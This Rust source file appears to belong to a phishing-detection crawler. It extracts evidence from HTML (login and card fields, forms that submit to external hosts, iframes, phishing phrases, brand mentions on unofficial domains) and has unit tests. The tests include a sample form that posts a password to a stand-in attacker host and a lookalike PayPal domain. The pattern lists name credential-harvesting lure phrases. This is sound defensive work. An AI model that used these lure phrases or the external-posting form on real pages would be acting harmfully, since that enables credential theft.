//! Crawl evidence — single DOM query pass
//!
//! Everything the verdict needs from a rendered page is collected in one
//! walk over the parsed document: forms and where they submit, sensitive
//! input fields, iframes, hidden inputs, page title, brand mentions and
//! phishing phrases.

use once_cell::sync::Lazy;
use regex::Regex;
use scraper::{Html, Selector};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use url::Url;

use crate::logic::catalog::Catalog;

// ============================================================================
// PATTERNS
// ============================================================================

/// Phrases typical of credential-harvesting pages (English and Spanish)
static PHISHING_PHRASES: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"verify\s+your\s+(account|identity|information)",
        r"confirm\s+your\s+(password|credentials|details)",
        r"update\s+your\s+(payment|billing|account)",
        r"unusual\s+activity",
        r"suspended\s+account",
        r"your\s+account\s+(has\s+been|will\s+be)\s+(suspended|locked|closed)",
        r"enter\s+your\s+(ssn|social\s+security)",
        r"ingrese\s+su\s+(clave|contrasena|password)",
        r"actualice\s+sus\s+datos",
        r"verifique\s+su\s+(cuenta|identidad)",
        r"su\s+cuenta\s+(ha\s+sido|sera)\s+(suspendida|bloqueada)",
    ]
    .iter()
    .map(|p| Regex::new(&format!("(?i){p}")).expect("valid phrase pattern"))
    .collect()
});

/// Parking / for-sale page indicators
static PARKING_PHRASES: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"domain\s+for\s+sale",
        r"this\s+domain\s+is\s+parked",
        r"buy\s+this\s+domain",
        r"dominio\s+en\s+venta",
        r"coming\s+soon",
        r"under\s+construction",
    ]
    .iter()
    .map(|p| Regex::new(&format!("(?i){p}")).expect("valid parking pattern"))
    .collect()
});

const CREDIT_CARD_HINTS: &[&str] = &["card", "credit", "cvv", "cvc", "expir", "tarjeta"];
const SENSITIVE_HINTS: &[&str] = &["ssn", "social", "pin", "cedula", "documento", "identidad"];
const LOGIN_HINTS: &[&str] = &["email", "user", "usuario", "correo", "login"];

// ============================================================================
// EVIDENCE
// ============================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CrawlEvidence {
    pub has_login_form: bool,
    pub has_password_field: bool,
    pub has_credit_card_field: bool,
    /// ssn / pin / national-id style inputs
    pub has_suspicious_inputs: bool,
    pub page_title: String,
    pub brands_detected: Vec<String>,
    pub phishing_phrases_count: u32,
    pub form_submits_externally: bool,
    pub form_actions: Vec<String>,
    pub iframe_count: u32,
    pub hidden_input_count: u32,
    pub ssl_error: bool,
    pub is_parking_page: bool,
    pub is_error_page: bool,
}

/// One pass over the document. Pure: HTML in, evidence out.
pub fn analyze_html(html: &str, final_url: &str, catalog: &Catalog) -> CrawlEvidence {
    let document = Html::parse_document(html);
    let mut evidence = CrawlEvidence::default();

    let page_host = Url::parse(final_url)
        .ok()
        .and_then(|u| u.host_str().map(|h| h.to_lowercase()))
        .unwrap_or_default();

    // --- title ---
    if let Ok(selector) = Selector::parse("title") {
        if let Some(title) = document.select(&selector).next() {
            evidence.page_title = title.text().collect::<String>().trim().to_string();
        }
    }

    // --- inputs ---
    let mut password_fields = 0u32;
    let mut login_fields = 0u32;
    let mut credit_card_fields = 0u32;
    if let Ok(selector) = Selector::parse("input") {
        for input in document.select(&selector) {
            let input_type = attr_lower(&input, "type");
            let descriptor = format!(
                "{} {} {}",
                attr_lower(&input, "name"),
                attr_lower(&input, "id"),
                attr_lower(&input, "placeholder"),
            );

            if input_type == "hidden" {
                evidence.hidden_input_count += 1;
            }
            if input_type == "password" {
                password_fields += 1;
            }
            if input_type == "email" || LOGIN_HINTS.iter().any(|h| descriptor.contains(h)) {
                login_fields += 1;
            }
            if CREDIT_CARD_HINTS.iter().any(|h| descriptor.contains(h)) {
                credit_card_fields += 1;
            }
            if SENSITIVE_HINTS.iter().any(|h| descriptor.contains(h)) {
                evidence.has_suspicious_inputs = true;
            }
        }
    }
    evidence.has_password_field = password_fields > 0;
    evidence.has_login_form = password_fields > 0 && login_fields > 0;
    evidence.has_credit_card_field = credit_card_fields > 2;

    // --- forms ---
    if let Ok(selector) = Selector::parse("form") {
        for form in document.select(&selector) {
            let action = form.value().attr("action").unwrap_or("").to_string();
            if action.starts_with("http") {
                if let Ok(action_url) = Url::parse(&action) {
                    let action_host = action_url
                        .host_str()
                        .map(|h| h.to_lowercase())
                        .unwrap_or_default();
                    if !action_host.is_empty() && !page_host.is_empty() && action_host != page_host
                    {
                        evidence.form_submits_externally = true;
                    }
                }
            }
            evidence.form_actions.push(action);
        }
    }

    // --- iframes ---
    if let Ok(selector) = Selector::parse("iframe") {
        evidence.iframe_count = document.select(&selector).count() as u32;
    }

    // --- visible text ---
    let text: String = document.root_element().text().collect::<Vec<_>>().join(" ");
    let text_lower = text.to_lowercase();

    evidence.phishing_phrases_count = PHISHING_PHRASES
        .iter()
        .filter(|p| p.is_match(&text_lower))
        .count() as u32;

    evidence.is_parking_page = PARKING_PHRASES.iter().any(|p| p.is_match(&text_lower));

    let title_lower = evidence.page_title.to_lowercase();
    evidence.is_error_page = ["404", "not found", "no existe", "error"]
        .iter()
        .any(|ind| title_lower.contains(ind));

    // --- brand content on a non-official host ---
    for (brand, _) in catalog.known_brands {
        if text_lower.contains(brand) && !catalog.is_official_domain(&page_host, brand) {
            evidence.brands_detected.push(brand.to_string());
        }
    }

    evidence
}

/// Hash of a normalized DOM slice (title + form actions + counts). Two
/// visually-identical phishing kits fingerprint the same even when the
/// full HTML differs in noise.
pub fn html_fingerprint(evidence: &CrawlEvidence) -> String {
    let mut hasher = Sha256::new();
    hasher.update(evidence.page_title.as_bytes());
    for action in &evidence.form_actions {
        hasher.update(action.as_bytes());
        hasher.update([0]);
    }
    hasher.update(evidence.iframe_count.to_le_bytes());
    hasher.update(evidence.hidden_input_count.to_le_bytes());
    format!("{:x}", hasher.finalize())[..16].to_string()
}

fn attr_lower(el: &scraper::ElementRef<'_>, name: &str) -> String {
    el.value().attr(name).unwrap_or("").to_lowercase()
}

// ============================================================================
// TESTS
// ============================================================================

#[cfg(test)]
mod tests {
    use super::*;

    fn analyze(html: &str, url: &str) -> CrawlEvidence {
        analyze_html(html, url, &Catalog::default())
    }

    #[test]
    fn test_login_form_detection() {
        let html = r#"
            <html><head><title>Sign in</title></head><body>
            <form action="/login">
              <input type="email" name="email">
              <input type="password" name="password">
            </form></body></html>"#;
        let e = analyze(html, "https://example.test/login");
        assert!(e.has_password_field);
        assert!(e.has_login_form);
        assert!(!e.form_submits_externally);
        assert_eq!(e.page_title, "Sign in");
    }

    #[test]
    fn test_external_form_submission() {
        let html = r#"<form action="https://collector.evil.xyz/grab">
            <input type="password" name="p"></form>"#;
        let e = analyze(html, "https://victim-look.test/");
        assert!(e.form_submits_externally);
    }

    #[test]
    fn test_credit_card_fields() {
        let html = r#"
            <input name="card_number"><input name="cvv"><input id="expiry-date">"#;
        let e = analyze(html, "https://shop.test/");
        assert!(e.has_credit_card_field);
    }

    #[test]
    fn test_sensitive_inputs() {
        let html = r#"<input name="ssn"><input type="text" id="x">"#;
        let e = analyze(html, "https://forms.test/");
        assert!(e.has_suspicious_inputs);
    }

    #[test]
    fn test_phishing_phrases_and_brand_content() {
        let html = r#"<html><body>
            <p>Please verify your account. Unusual activity was detected
            on your PayPal profile.</p></body></html>"#;
        let e = analyze(html, "https://paypa1-secure.xyz/");
        assert!(e.phishing_phrases_count >= 2);
        assert!(e.brands_detected.contains(&"paypal".to_string()));
    }

    #[test]
    fn test_brand_on_official_host_not_flagged() {
        let html = "<html><body>Welcome to PayPal</body></html>";
        let e = analyze(html, "https://www.paypal.com/");
        assert!(!e.brands_detected.contains(&"paypal".to_string()));
    }

    #[test]
    fn test_hidden_inputs_and_iframes() {
        let html = r#"
            <iframe src="a"></iframe><iframe src="b"></iframe>
            <input type="hidden" name="t1"><input type="hidden" name="t2">"#;
        let e = analyze(html, "https://x.test/");
        assert_eq!(e.iframe_count, 2);
        assert_eq!(e.hidden_input_count, 2);
    }

    #[test]
    fn test_parking_page() {
        let html = "<html><body>This domain is parked. Buy this domain!</body></html>";
        let e = analyze(html, "https://parked.test/");
        assert!(e.is_parking_page);
    }

    #[test]
    fn test_fingerprint_stability() {
        let html = r#"<title>T</title><form action="/a"></form>"#;
        let a = html_fingerprint(&analyze(html, "https://x.test/"));
        let b = html_fingerprint(&analyze(html, "https://x.test/"));
        assert_eq!(a, b);
        assert_eq!(a.len(), 16);

        let other = html_fingerprint(&analyze(
            r#"<title>Other</title><form action="/b"></form>"#,
            "https://x.test/",
        ));
        assert_ne!(a, other);
    }
}
